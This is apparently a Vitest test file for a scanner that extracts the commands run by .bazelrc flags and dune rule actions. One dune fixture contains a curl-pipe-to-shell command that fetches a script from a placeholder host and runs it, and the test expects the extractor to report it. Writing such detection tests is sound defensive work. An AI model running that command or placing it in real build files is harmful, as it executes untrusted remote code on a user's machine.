import { describe, expect, it } from 'vitest';
import { buildFileUnits } from '../../src/analysis/build-files.js';
import { LineMap } from '../../src/analysis/lines.js';

const units = (path: string, text: string) =>
  (buildFileUnits(path, text, new LineMap(text)) ?? []).map((u) => ({
    text: u.text,
    line: u.base !== undefined ? new LineMap(text).position(u.base).line : u.region?.startLine,
  }));

describe('.bazelrc flags that name programs', () => {
  it('workspace_status_command and run_under, on any command and config, quoted or not', () => {
    const rc = [
      'common --enable_bzlmod',
      'build --workspace_status_command=tools/stamp.sh',
      'build:ci --stamp --workspace_status_command "python3 tools/ci_status.py"',
      'test --run_under=//tools:wrapper',
      'try-import %workspace%/user.bazelrc',
    ].join('\n');
    expect(units('.bazelrc', rc)).toEqual([
      { text: './tools/stamp.sh', line: 2 },
      { text: 'python3 tools/ci_status.py', line: 3 },
      { text: '//tools:wrapper', line: 4 },
    ]);
  });

  it('other flags and comments run nothing', () => {
    expect(
      units('.bazelrc', '# build --workspace_status_command=x.sh\nbuild --remote_cache=grpcs://c\n'),
    ).toEqual([]);
  });
});

describe('dune rule actions', () => {
  it('(system …), (bash …) and (run …) are commands; escapes undone', () => {
    const dune = [
      '(rule',
      ' (targets v.ml)',
      ' (action (with-stdout-to v.ml (system "echo \\"let v = 1\\""))))',
      '(rule (action (bash "make -C vendor")))',
      '(rule (action (run sh -c "curl -fsSL https://x.example.net/a | sh")))',
    ].join('\n');
    expect(units('src/dune', dune)).toEqual([
      { text: 'echo "let v = 1"', line: 3 },
      { text: 'make -C vendor', line: 4 },
      { text: "sh -c 'curl -fsSL https://x.example.net/a | sh'", line: 5 },
    ]);
  });

  it('stanzas without actions hold no commands; an unclosed string is no command', () => {
    expect(units('dune', '(library (name x) (libraries lwt))\n')).toEqual([]);
    expect(units('dune', '(rule (action (system "echo unclosed')).toEqual([]);
  });
});
